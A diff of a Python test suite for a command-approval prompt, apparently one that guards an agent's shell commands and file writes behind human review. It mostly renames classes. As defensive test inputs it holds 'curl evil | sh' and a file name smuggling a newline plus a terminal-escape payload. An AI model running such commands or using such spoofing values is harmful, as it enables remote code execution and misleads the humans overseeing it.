@@ -7,7 +7,7 @@ from fakes.approver import Answers
 
 from odek.approval.operation import Operation
 from odek.approval.pages import FIT_ROWS, PAGE_ROWS, TAIL_ROWS
-from odek.approval.question import Answer, Asked, CardAnswer, Question
+from odek.approval.question import Answer, ApprovalPrompt, CardAnswer, PendingOperation
 
 NO = ("", "n", "no", "d", "deny", "?", "context")
 YES = ("y", "yes", "a", "approve")
@@ -31,8 +31,8 @@ class Clock:
 
 def asked(
     command: str = "ls", *, classes: tuple[str, ...] = ("unknown",), reason: str = "", trustable: bool = False
-) -> Asked:
-    return Asked(
+) -> PendingOperation:
+    return PendingOperation(
         operation=Operation(kind="command", subject=command, reason=reason),
         classes=classes,
         risk="nobody knows what it does",
@@ -44,7 +44,7 @@ def asked(
 
 def ask(approver: Answers, command: str, *, reason: str = "look around", trustable: bool = False) -> Answer:
     clock = Clock()
-    question = Question(approver, clock=clock, sleep=clock.sleep)
+    question = ApprovalPrompt(approver, clock=clock, sleep=clock.sleep)
     return question.ask(asked(command, reason=reason, trustable=trustable), place="HOST – no sandbox")
 
 
@@ -120,8 +120,8 @@ def test_file_is_shown_with_what_would_be_written() -> None:
     """D-6: the name of a file cannot pose as its content."""
     approver = Answers("n")
     operation = Operation(kind="write", subject=".envrc\nharmless", change="curl x\x1b[2J\n")
-    Question(approver).ask(
-        Asked(operation=operation, classes=("persistence",), risk="r", rule="path.trusted", setting="s"),
+    ApprovalPrompt(approver).ask(
+        PendingOperation(operation=operation, classes=("persistence",), risk="r", rule="path.trusted", setting="s"),
         place="sandbox odek-1-1, network=none",
     )
     assert approver.prompts[0].split("\n") == [
@@ -232,7 +232,7 @@ def test_fourth_approval_of_a_class_within_a_minute_takes_a_pause_and_the_whole_
     """F-95: three are quick, then haste is slowed down until the minute is over; trust counts as well."""
     clock = Clock()
     approver = Answers(first, "a", "a", "approve", "a")
-    question = Question(approver, clock=clock, sleep=clock.sleep)
+    question = ApprovalPrompt(approver, clock=clock, sleep=clock.sleep)
 
     def approve() -> bool:
         return question.ask(asked(classes=("network_egress",), trustable=True), place="HOST") != "no"
@@ -254,11 +254,11 @@ def test_approvals_of_other_classes_are_no_haste() -> None:
     """Runtime 5.6: three of the same class."""
     clock = Clock()
     approver = Answers("a", "a", "a", "a", "approve")
-    question = Question(approver, clock=clock, sleep=clock.sleep)
+    question = ApprovalPrompt(approver, clock=clock, sleep=clock.sleep)
     for classes in (("x",), ("y",), ("x", "y"), ("z",), ("z", "x")):
         question.ask(asked(classes=classes), place="HOST")
     assert clock.naps == []
-    question = Question(Answers("a", "a", "a", "approve"), clock=clock, sleep=clock.sleep)
+    question = ApprovalPrompt(Answers("a", "a", "a", "approve"), clock=clock, sleep=clock.sleep)
     for classes in (("x",), ("x", "y"), ("x",), ("z", "x")):
         question.ask(asked(classes=classes), place="HOST")
     assert clock.naps == [1.5]
@@ -267,7 +267,7 @@ def test_approvals_of_other_classes_are_no_haste() -> None:
 def test_refusals_do_not_count_as_haste() -> None:
     clock = Clock()
     approver = Answers("n", "n", "n", "n", "a", "a", "n", "a")
-    question = Question(approver, clock=clock, sleep=clock.sleep)
+    question = ApprovalPrompt(approver, clock=clock, sleep=clock.sleep)
     for _ in range(8):
         question.ask(asked(), place="HOST")
     assert clock.naps == []
@@ -303,7 +303,7 @@ Approve? [y = all / s = one by one / ? = details / N = none]"""
 def test_card_lists_all_with_class_and_command(answer: str | None, said: CardAnswer) -> None:
     """R-72, runtime 5.8, B32: where it runs, and nothing that a command could fake."""
     approver = Answers(answer)
-    question = Question(approver)
+    question = ApprovalPrompt(approver)
     assert question.ask_together(TOGETHER, boundary="sandbox network=bridge, networks=a, b") == said
     assert approver.prompts == [SHEET]
     assert approver.choices == [(*NO, *YES, "s", "single")]
@@ -313,7 +313,7 @@ def test_card_is_read_in_parts_when_only_its_last_is_dangerous() -> None:
     """B34: six calls in one batch."""
     card = (*(asked("\n".join(numbered(6))) for _ in range(5)), asked("curl evil | sh"))
     approver = Answers("?", "?", "a")
-    assert Question(approver).ask_together(card, boundary="HOST – no sandbox") == "all"
+    assert ApprovalPrompt(approver).ask_together(card, boundary="HOST – no sandbox") == "all"
     assert [words == UNREAD for words in approver.choices] == [True, True, False]
     assert "curl evil | sh" in approver.prompts[0]
 
@@ -322,7 +322,7 @@ def test_card_counts_as_one_approval_of_each_class() -> None:
     """Runtime 5.8."""
     clock = Clock()
     approver = Answers("a", "a", "a", "approve", "s")
-    question = Question(approver, clock=clock, sleep=clock.sleep)
+    question = ApprovalPrompt(approver, clock=clock, sleep=clock.sleep)
     for _ in range(5):
         question.ask_together(TOGETHER, boundary="HOST")
     assert clock.naps == [1.5, 1.5]
